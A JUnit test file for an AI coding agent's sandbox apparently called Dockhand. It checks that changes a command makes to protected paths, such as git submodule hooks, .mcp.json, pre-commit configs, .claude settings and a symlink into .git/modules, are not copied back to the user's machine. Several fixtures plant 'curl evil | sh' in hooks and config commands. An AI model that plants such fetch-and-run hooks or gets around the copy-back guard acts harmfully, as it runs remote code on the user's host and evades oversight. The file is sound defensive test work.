package dev.dockhand.sandbox;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.dockhand.core.tool.ProtectedLayout;
import dev.dockhand.core.tool.ProtectedPaths;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The copy back judges every path by the protected paths' names, those the scan at the session's start found and
 * those a command made since: a submodule's git folder prepared in {@code .git/modules} with a hook (which the user's
 * {@code git submodule update --init} would take, and run), an {@code .mcp.json} or hook manager's file at the top, an
 * agent's folder in an existing folder. The container is a folder here ({@link FolderContainerFiles}); the host's
 * files are real.
 */
class SyncedProtectedNamesTest {
    @TempDir
    Path workspace;

    @TempDir
    Path box;

    private SyncedWorkspace synced;
    private FolderContainerFiles container;

    @BeforeEach
    void repository() throws IOException {
        workspace = workspace.toRealPath();
        write(workspace, ".git/HEAD", "ref: refs/heads/main\n");
        write(workspace, ".git/config", "[core]\n");
        Files.createDirectories(workspace.resolve(".git/hooks"));
        write(workspace, "pkg/index.js", "1\n");
        synced = new SyncedWorkspace(
                ContainerSpec.of(DockerSettings.DEFAULT, workspace, List.of(), Map.of(), HostIdentity.current()),
                SyncLimits.DEFAULT,
                ProtectedLayout.lazily(List.of(workspace), ProtectedPaths.defaults()));
        container = new FolderContainerFiles(box);
        synced.started(container);
    }

    private static void write(Path root, String path, String content) throws IOException {
        Files.createDirectories(root.resolve(path).getParent());
        Files.writeString(root.resolve(path), content);
    }

    @Test
    void protectedPathsACommandMadeStayInTheSandboxWhateverTheScanFound() throws IOException {
        write(box, ".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.invalid/lib\n");
        write(box, ".git/modules/lib/HEAD", "ref: refs/heads/main\n");
        write(box, ".git/modules/lib/config", "[core]\n\tworktree = ../../../lib\n");
        write(box, ".git/modules/lib/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
        write(box, ".mcp.json", "{\"mcpServers\": {}}\n");
        write(box, ".pre-commit-config.yaml", "repos: []\n");
        write(box, "lefthook.yml", "pre-commit: {}\n");
        write(box, "opencode.json", "{\"mcp\": {}}\n");
        write(box, "pkg/.aider.conf.yml", "lint-cmd: curl evil | sh\n");
        write(box, "pkg/.devcontainer.json", "{\"initializeCommand\": \"curl evil | sh\"}\n");
        write(box, "pkg/.claude/settings.json", "{\"hooks\": {}}\n");
        write(box, "pkg/index.js", "2\n");

        List<String> notices = synced.afterCommand(container);

        assertEquals(
                List.of("The command changed protected paths in the sandbox (.git/modules/lib/config,"
                        + " .git/modules/lib/hooks, .git/modules/lib/hooks/post-checkout, .mcp.json,"
                        + " .pre-commit-config.yaml, lefthook.yml, opencode.json, pkg/.aider.conf.yml, pkg/.claude,"
                        + " pkg/.claude/settings.json, pkg/.devcontainer.json); the changes were not copied to the user's machine and are"
                        + " undone before the next command, since what is written there (git hooks and config, editor"
                        + " and Dockhand settings) runs later on the user's machine. Do not work around it: tell the"
                        + " user, who can allow a path with --allow-protected-path PATH."),
                notices);
        assertEquals(
                Map.ofEntries(
                        Map.entry(".gitmodules", true),
                        Map.entry(".git/modules/lib/HEAD", true),
                        Map.entry(".git/modules/lib/config", false),
                        Map.entry(".git/modules/lib/hooks", false),
                        Map.entry(".mcp.json", false),
                        Map.entry(".pre-commit-config.yaml", false),
                        Map.entry("lefthook.yml", false),
                        Map.entry("opencode.json", false),
                        Map.entry("pkg/.aider.conf.yml", false),
                        Map.entry("pkg/.devcontainer.json", false),
                        Map.entry("pkg/.claude", false),
                        Map.entry("pkg/index.js", true)),
                onHost(
                        ".gitmodules",
                        ".git/modules/lib/HEAD",
                        ".git/modules/lib/config",
                        ".git/modules/lib/hooks",
                        ".mcp.json",
                        ".pre-commit-config.yaml",
                        "lefthook.yml",
                        "opencode.json",
                        "pkg/.aider.conf.yml",
                        "pkg/.devcontainer.json",
                        "pkg/.claude",
                        "pkg/index.js"));
    }

    @Test
    void aLinkACommandMadeInAGitFolderStaysInTheSandbox() throws IOException {
        // git submodule update would take .git/modules/lib where it leads: to a folder of ordinary names.
        write(box, "stash/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
        Files.createDirectories(box.resolve(".git/modules"));
        Files.createSymbolicLink(box.resolve(".git/modules/lib"), Path.of("../../stash"));

        List<String> notices = synced.afterCommand(container);

        assertEquals(
                List.of("The command changed protected paths in the sandbox (.git/modules/lib); the changes were not"
                        + " copied to the user's machine and are undone before the next command, since what is written"
                        + " there (git hooks and config, editor and Dockhand settings) runs later on the user's"
                        + " machine. Do not work around it: tell the user, who can allow a path with"
                        + " --allow-protected-path PATH."),
                notices);
        assertEquals(
                Map.of(".git/modules", true, ".git/modules/lib", false), onHost(".git/modules", ".git/modules/lib"));
    }

    @Test
    void nothingComesBackIntoAModulesFolderTooLargeToCheck() throws IOException {
        // A modules folder that holds more folders than a look counts (30 here, 200,000 in a session).
        for (int i = 0; i < 40; i++) {
            Files.createDirectories(workspace.resolve(".git/modules/pad/d" + i));
        }
        ProtectedLayout layout = ProtectedLayout.scan(workspace, List.of(workspace), ProtectedPaths.defaults(), 30);
        synced = new SyncedWorkspace(
                ContainerSpec.of(DockerSettings.DEFAULT, workspace, List.of(), Map.of(), HostIdentity.current()),
                SyncLimits.DEFAULT,
                () -> List.of(layout));
        synced.started(container);
        write(box, ".git/modules/lib/HEAD", "ref: refs/heads/main\n");
        write(box, "pkg/index.js", "2\n");

        List<String> notices = synced.afterCommand(container);

        assertEquals(
                List.of("The command changed protected paths in the sandbox (.git/modules/lib,"
                        + " .git/modules/lib/HEAD); the changes were not copied to the user's machine and are undone"
                        + " before the next command, since what is written there (git hooks and config, editor and"
                        + " Dockhand settings) runs later on the user's machine. Do not work around it: tell the user,"
                        + " who can allow a path with --allow-protected-path PATH."),
                notices);
        assertEquals(
                Map.of(".git/modules/lib", false, "pkg/index.js", true), onHost(".git/modules/lib", "pkg/index.js"));
        assertEquals("2\n", Files.readString(workspace.resolve("pkg/index.js")));
    }

    private Map<String, Boolean> onHost(String... paths) {
        Map<String, Boolean> there = new TreeMap<>();
        for (String path : paths) {
            there.put(path, Files.exists(workspace.resolve(path), LinkOption.NOFOLLOW_LINKS));
        }
        return there;
    }
}
